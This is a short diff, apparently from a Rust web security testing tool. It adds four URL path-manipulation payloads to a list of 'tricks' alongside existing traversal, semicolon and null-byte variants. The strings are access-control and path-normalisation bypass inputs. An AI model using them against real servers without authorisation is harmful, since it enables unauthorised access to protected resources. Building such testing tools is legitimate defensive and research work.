@@ -123,6 +123,10 @@ const TRICKS: &[Trick] = &[
         l.path = format!("/../..{}", l.path)
     }),
     (";x", |r, l| at_slash(r, l, ";x/")),
+    ("/x/..;x/", |r, l| at_slash(r, l, "/x/..;x/")),
+    ("/.;x/", |r, l| at_slash(r, l, "/.;x/")),
+    ("/x/%2e.;/", |r, l| at_slash(r, l, "/x/%2e.;/")),
+    ("/x/..%3bx/", |r, l| at_slash(r, l, "/x/..%3bx/")),
     (";x at the end", |_, l| l.path.push_str(";x")),
     ("%3b", |_, l| l.path.push_str("%3bx")),
     ("%00", |_, l| l.path.push_str("%00")),
